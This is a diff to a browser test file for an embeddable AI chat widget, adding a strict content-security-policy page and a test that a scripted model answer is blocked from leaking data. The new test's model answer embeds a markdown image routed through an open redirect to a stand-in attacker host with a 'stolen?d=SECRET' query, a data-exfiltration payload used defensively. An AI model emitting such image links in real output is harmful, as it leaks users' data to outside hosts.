@@ -1,6 +1,6 @@
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { ensureBundle, launchChromium } from './support/chromium.js';
+import { ensureBundle, launchChromium, strictCsp } from './support/chromium.js';
 import { faults, startFaultGateway, type FaultGateway } from './support/fault-gateway.js';
 import { startImageHost, type ImageHost } from './support/image-host.js';
 import { openPage } from './support/open-page.js';
@@ -39,6 +39,11 @@ beforeAll(async () => {
   attacker = await startImageHost('localhost');
   gateway.page('/', { body: '<parley-chat endpoint="/api/chat" protocol="parley" persist="none"></parley-chat>' });
   gateway.page('/allowed', { body: `<parley-chat endpoint="/api/chat" protocol="parley" persist="none" image-hosts="${allowed.host}"></parley-chat>` });
+  // The integrator's half of the allow-list: the page's own img-src names the same host.
+  gateway.page('/allowed-csp', {
+    body: `<parley-chat endpoint="/api/chat" protocol="parley" persist="none" image-hosts="${allowed.host}"></parley-chat>`,
+    csp: `${strictCsp.replace("img-src 'self'", `img-src 'self' ${allowed.origin}`)}`,
+  });
   browser = await launchChromium();
 }, 120_000);
 
@@ -90,6 +95,22 @@ describe('images and styles in model output', { timeout: 30_000 }, () => {
     // No referrer leaks the page (an ERP URL with record ids) to the image host.
     expect(allowed.hits[0]?.headers.referer).toBeUndefined();
     expect(errors).toEqual([]);
+    await page.context().close();
+  });
+
+  it("an open redirect on an allowed host is stopped by the page's img-src naming the same hosts (the widget cannot see redirects)", async () => {
+    const { page, errors, violations } = await openPage(browser, `${gateway.origin}/allowed-csp`);
+    const allowedBefore = allowed.hits.length;
+    gateway.script('', faults.answer(`![chart](${allowed.origin}/redirect?to=${encodeURIComponent(`${attacker.origin}/stolen?d=SECRET`)}) End of answer.`));
+    await page.locator('parley-chat [part~="input"]').fill('Chart?');
+    await page.locator('parley-chat [part~="input"]').press('Enter');
+    await page.locator('parley-chat [part~="message"][part~="assistant"]').getByText('End of answer.').waitFor();
+    await expect.poll(() => violations.length).toBe(1);
+    expect(violations[0]).toMatch(/^img-src/);
+    expect(allowed.hits.slice(allowedBefore).map((hit) => hit.url)).toEqual([expect.stringMatching(/^\/redirect\?to=/)]);
+    expect(attacker.hits).toEqual([]);
+    // Chromium reports the blocked hop on the console itself; nothing else went wrong.
+    expect(errors.filter((error) => !/^Loading the image '[^']*\/stolen\?d=SECRET' violates/.test(error))).toEqual([]);
     await page.context().close();
   });
 });
